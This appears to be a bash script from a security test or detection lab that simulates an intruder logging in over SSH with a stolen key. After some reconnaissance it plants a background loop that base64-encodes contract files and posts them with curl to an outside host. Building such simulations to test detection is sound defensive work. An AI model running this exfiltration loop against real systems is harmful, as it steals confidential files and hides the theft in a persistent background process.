#!/bin/bash
# An intruder logs in with Alice's key, and leaves a loop behind that sends a contract away every few seconds.
# slow-theft.sh KEYS FILES SECONDS: SECONDS is how long the theft lasts.
keys=$1 seconds=$3
. "$(dirname "$0")/../clients/ssh.sh"

type_lines 1 <<END | login alice 203.0.113.66 -tt
[ -e /stage/sus-up-2 ]
ls -la
ls /srv/data/contracts
[ -e /stage/evil ]
nohup bash -c 'for f in /srv/data/contracts/*; do base64 \$f | curl -s --data-binary @- http://198.51.100.7:8000/; sleep $((seconds / 25)); done' >/dev/null 2>&1 &
END
